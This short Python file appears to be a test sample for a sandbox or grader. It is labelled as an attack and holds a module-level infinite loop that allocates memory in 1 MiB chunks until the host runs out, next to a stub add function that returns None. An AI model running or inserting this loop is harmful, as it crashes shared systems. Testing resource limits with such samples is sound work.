# attack: eat all memory
held = []
while True:
    held.append(bytearray(1 << 20))


def add(a, b):
    return None
